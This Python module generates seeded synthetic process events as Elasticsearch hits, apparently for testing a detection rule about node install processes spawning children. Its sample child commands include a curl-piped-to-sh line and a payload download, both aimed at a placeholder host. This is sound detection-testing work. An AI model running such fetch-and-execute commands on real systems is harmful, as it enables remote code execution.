"""Seeded random streams of process events, as Elasticsearch hits.

A stream is a list of hits `{"_index", "_id", "_source"}` with nested `_source` objects, in
the order both engines must see them: ascending `@timestamp`, ties in list order (seqwatch
replay uses input order as the implicit tiebreaker that stands in for `_shard_doc`). The
shapes are biased towards the production rule: `node … install` processes with children
whose `process.parent.name` is `node`, children landing on and around the 10 s maxspan
boundary, re-executions of the same entity (overwrite), chains (a `node install` whose parent
is `node`), `end` events for `until`, and noise. The generator never produces the inputs on
which the two engines are known to differ (null or multi-valued join keys, join keys whose
case varies, more than one event category) — those live in `known`.
"""

from __future__ import annotations

import datetime as _dt
import random
from dataclasses import dataclass

#: 2025-01-01T00:00:00Z in epoch milliseconds; streams start here.
BASE_EPOCH_MS = 1735689600000

INDICES = ("logs-endpoint.events.process-default", "logs-crowdstrike.fdr-default")

#: Fields whose ECS type is an array; the generator writes them as a JSON array or, sometimes,
#: as a bare scalar (Elasticsearch indexes both the same way).
ARRAY_FIELDS = ("event.category", "event.type", "process.args")

_NODE_INSTALL_ARGS = (
    ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install"],
    ["node", "/usr/bin/npm", "install", "--no-audit"],
    ["node", "install"],
    ["node", "/usr/bin/npm", "ci"],
    ["node", "/usr/bin/npm", "run", "build"],
    ["node", "installer.js"],
    ["node", "/usr/bin/npm", "INSTALL"],
)
_CHILD_SHAPES = (
    ("sh", "/bin/sh", ["sh", "-c", "node install.js"]),
    ("sh", "/bin/sh", ["sh", "-c", "node-gyp rebuild"]),
    ("bash", "/bin/bash", ["bash", "-c", "curl -s http://example.invalid/x | sh"]),
    ("node", "/usr/bin/node", ["node", "postinstall.js"]),
    ("node", "/usr/bin/node", ["node", "/usr/bin/npm", "install"]),
    ("python3", "/usr/bin/python3", ["python3", "setup.py", "install"]),
    ("curl", "/usr/bin/curl", ["curl", "-O", "http://example.invalid/payload"]),
)
_NOISE_SHAPES = (
    ("bash", "/bin/bash", ["bash"]),
    ("sh", "/bin/sh", ["sh", "-c", "true"]),
    ("node", "/usr/bin/node", ["node", "server.js"]),
    ("nodejs", "/usr/bin/nodejs", ["nodejs", "install"]),
    ("npm", "/usr/bin/npm", ["npm", "install"]),
    ("git", "/usr/bin/git", ["git", "clone", "repo"]),
    ("curl", "/usr/bin/curl", ["curl", "http://example.invalid"]),
    ("python3", "/usr/bin/python3", ["python3", "-m", "pip", "install"]),
)
_PARENT_NAMES = ("node", "bash", "sh", "systemd", "npm", "python3")
_ACTIONS = ("exec", "ProcessRollup2", "fork", "start", "end")
_STAGE_ACTIONS = ("exec", "exec", "exec", "ProcessRollup2")
_NOISE_TYPES = ("start", "start", "end", "change", "info")
_OS_TYPES = ("linux", "linux", "linux", "linux", "macos", "windows")


@dataclass(frozen=True)
class StreamOptions:
    """What a stream may contain."""

    #: number of events (approximately: an install tree is never cut in half)
    events: int = 80
    #: hosts to spread events over
    hosts: int = 2
    #: vary the case of non-key strings (process names, OS type, actions, args)
    vary_case: bool = True
    #: allow equal timestamps; if False every event gets its own millisecond
    ties: bool = True
    #: sometimes write a field with a dotted key (`{"process": {"parent.name": x}}`)
    dotted_keys: bool = True
    #: sometimes leave out fields no query tests under negation (parent name, args, executable)
    missing_fields: bool = True


def iso_ms(epoch_ms: int) -> str:
    """Render epoch milliseconds as an RFC 3339 UTC timestamp with milliseconds."""
    moment = _dt.datetime.fromtimestamp(epoch_ms / 1000, tz=_dt.UTC)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{epoch_ms % 1000:03d}Z"


def parse_iso_ms(text: str) -> int:
    """Parse a timestamp written by `iso_ms` back into epoch milliseconds."""
    moment = _dt.datetime.strptime(text, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=_dt.UTC)
    return round(moment.timestamp() * 1000)


def hit_time_ms(hit: dict) -> int:
    """The hit's `@timestamp` in epoch milliseconds."""
    return parse_iso_ms(hit["_source"]["@timestamp"])


def set_path(obj: dict, path: str, value) -> None:
    """Set a dotted path in nested objects, creating them as needed."""
    parts = path.split(".")
    for part in parts[:-1]:
        obj = obj.setdefault(part, {})
    obj[parts[-1]] = value


def nest_dotted(obj):
    """A copy of `obj` with dotted keys expanded into nested objects.

    Elasticsearch treats `{"process.name": x}` and `{"process": {"name": x}}` as the same field;
    the Python engine only walks nested objects. The generator never writes one leaf both ways.
    """
    if isinstance(obj, list):
        return [nest_dotted(item) for item in obj]
    if not isinstance(obj, dict):
        return obj
    out: dict = {}
    for key, value in obj.items():
        value = nest_dotted(value)
        parts = key.split(".")
        holder = out
        for part in parts[:-1]:
            holder = holder.setdefault(part, {})
        if isinstance(holder.get(parts[-1]), dict) and isinstance(value, dict):
            holder[parts[-1]].update(value)
        else:
            holder[parts[-1]] = value
    return out


def get_path(obj, path: str):
    """Read a dotted path from nested objects; None if any step is missing."""
    for part in path.split("."):
        if not isinstance(obj, dict) or part not in obj:
            return None
        obj = obj[part]
    return obj


class _Builder:
    """Holds the random state while one stream is built."""

    def __init__(self, seed: int, options: StreamOptions):
        self.rng = random.Random(seed)
        self.options = options
        self.hosts = [f"host-{self.rng.randrange(16**6):06x}" for _ in range(max(1, options.hosts))]
        # A small pool of entity ids shared by all hosts, so that ids collide across hosts (this
        # exercises `sequence by host.id` against per-stage keys only) and recur (overwrite).
        self.entity_pool = [f"ent-{i:03d}" for i in range(max(6, options.events // 3))]
        self.events: list[tuple[int, int, dict]] = []  # (time, creation order, source)

    # -- value helpers -------------------------------------------------------------------

    def case(self, text: str) -> str:
        """Occasionally change the case of a non-key string."""
        if not self.options.vary_case or self.rng.random() > 0.12:
            return text
        return self.rng.choice((text.upper(), text.capitalize(), text.swapcase()))

    def maybe_scalar(self, values: list):
        """An ECS array field as an array, or (a single value) as a bare scalar sometimes."""
        if len(values) == 1 and self.rng.random() < 0.25:
            return values[0]
        return values

    def entity(self) -> str:
        """A process entity id from the shared pool."""
        return self.rng.choice(self.entity_pool)

    def os_type(self, stage_like: bool) -> str:
        """`host.os.type`, almost always linux for events meant to match a stage."""
        if stage_like and self.rng.random() < 0.9:
            return self.case("linux")
        return self.case(self.rng.choice(_OS_TYPES))

    # -- events --------------------------------------------------------------------------

    def emit(self, time_ms: int, source: dict) -> None:
        """Record an event; its `@timestamp` is set when the stream is finished."""
        self.events.append((time_ms, len(self.events), source))

    def process_event(
        self,
        time_ms: int,
        host: str,
        entity: str,
        parent_entity: str,
        name: str,
        executable: str,
        args: list,
        parent_name: str,
        action: str,
        event_type: str,
        os_type: str,
        category: str = "process",
    ) -> None:
        """Emit one process event (never a null join key; see StreamOptions for variations)."""
        rng = self.rng
        fields = [
            ("event.category", self.maybe_scalar([category])),
            ("event.type", self.maybe_scalar([event_type])),
            ("event.action", action),
            ("host.id", host),
            ("host.os.type", os_type),
            ("process.entity_id", entity),
            ("process.name", name),
            ("process.pid", rng.randrange(1, 40000)),
            ("process.executable", executable),
            ("process.args", self.maybe_scalar(list(args))),
            ("process.parent.entity_id", parent_entity),
            ("process.parent.name", parent_name),
        ]
        if rng.random() < 0.2:
            fields.append(("process.working_directory", rng.choice(("/home/dev/app", "/tmp", "/"))))
        source: dict = {}
        for path, value in fields:
            optional = path in ("process.parent.name", "process.args", "process.executable")
            if optional and self.options.missing_fields and rng.random() < 0.04:
                continue
            parts = path.split(".")
            if self.options.dotted_keys and len(parts) > 1 and rng.random() < 0.08:
                # write the tail of the path as one dotted key, at a random depth
                split = rng.randrange(0, len(parts) - 1)
                holder = source
                for part in parts[:split]:
                    holder = holder.setdefault(part, {})
                holder[".".join(parts[split:])] = value
            else:
                set_path(source, path, value)
        self.emit(time_ms, source)

    def install_tree(self, start_ms: int) -> None:
        """A `node … install` parent and its children, around the 10 s boundary."""
        rng = self.rng
        host = rng.choice(self.hosts)
        parent = self.entity()
        args = [self.case(a) if i > 0 else a for i, a in enumerate(rng.choice(_NODE_INSTALL_ARGS))]
        self.process_event(
            start_ms, host, parent, self.entity(), self.case("node"), "/usr/bin/node", args,
            self.case(rng.choice(_PARENT_NAMES)), rng.choice(_STAGE_ACTIONS),
            "start", self.os_type(True),
        )
        if rng.random() < 0.15:
            # the same entity executes again a little later: the later one must win (overwrite)
            self.process_event(
                start_ms + rng.choice((0, 1, 2, rng.randrange(1, 4000))), host, parent, self.entity(),
                "node", "/usr/bin/node", ["node", "/usr/bin/npm", "install"], "bash",
                rng.choice(_STAGE_ACTIONS), "start", self.os_type(True),
            )
        for _ in range(rng.choice((0, 1, 1, 2, 2, 3))):
            offset = rng.choice((0, 1, 2, 9999, 10000, 10001, rng.randrange(0, 3000), rng.randrange(0, 12000)))
            name, executable, child_args = rng.choice(_CHILD_SHAPES)
            child = self.entity()
            self.process_event(
                start_ms + offset, host, child, parent, self.case(name), executable, child_args,
                self.case("node") if rng.random() < 0.9 else "npm", rng.choice(_STAGE_ACTIONS),
                "start", self.os_type(True),
            )
            if rng.random() < 0.2:
                # the child ends: an until candidate keyed by the child's entity id
                self.process_event(
                    start_ms + offset + rng.choice((0, 1, rng.randrange(1, 5000))), host, child, parent,
                    name, executable, child_args, "node", "end", "end", "linux",
                )
        if rng.random() < 0.25:
            # the parent ends, before or after its children
            self.process_event(
                start_ms + rng.randrange(0, 11000), host, parent, self.entity(), "node", "/usr/bin/node",
                args, "bash", "end", "end", "linux",
            )

    def noise(self, time_ms: int) -> None:
        """An unrelated event: other processes, other categories, other actions and types."""
        rng = self.rng
        name, executable, args = rng.choice(_NOISE_SHAPES)
        category = "process" if rng.random() < 0.85 else rng.choice(("file", "network"))
        self.process_event(
            time_ms, rng.choice(self.hosts), self.entity(), self.entity(), self.case(name), executable,
            [self.case(a) for a in args], self.case(rng.choice(_PARENT_NAMES)), self.case(rng.choice(_ACTIONS)),
            rng.choice(_NOISE_TYPES), self.os_type(False), category,
        )

    def build(self) -> list[dict]:
        """Generate, order and number the events."""
        rng = self.rng
        now = 0
        while len(self.events) < self.options.events:
            if rng.random() < 0.45:
                self.install_tree(now)
            else:
                self.noise(now)
            now += rng.choice((0, 0, 1, 2, rng.randrange(1, 800), rng.randrange(800, 6000)))
        ordered = sorted(self.events, key=lambda item: (item[0], item[1]))
        hits = []
        last_ms = None
        for position, (time_ms, _, source) in enumerate(ordered):
            if not self.options.ties and last_ms is not None and time_ms <= last_ms:
                time_ms = last_ms + 1
            last_ms = time_ms
            source["@timestamp"] = iso_ms(BASE_EPOCH_MS + time_ms)
            hits.append({"_index": rng.choice(INDICES), "_id": f"ev{position:04d}", "_source": source})
        return hits


def generate_stream(seed: int, options: StreamOptions = StreamOptions()) -> list[dict]:
    """A reproducible stream of hits for `seed`, ordered as both engines must read it."""
    return _Builder(seed, options).build()
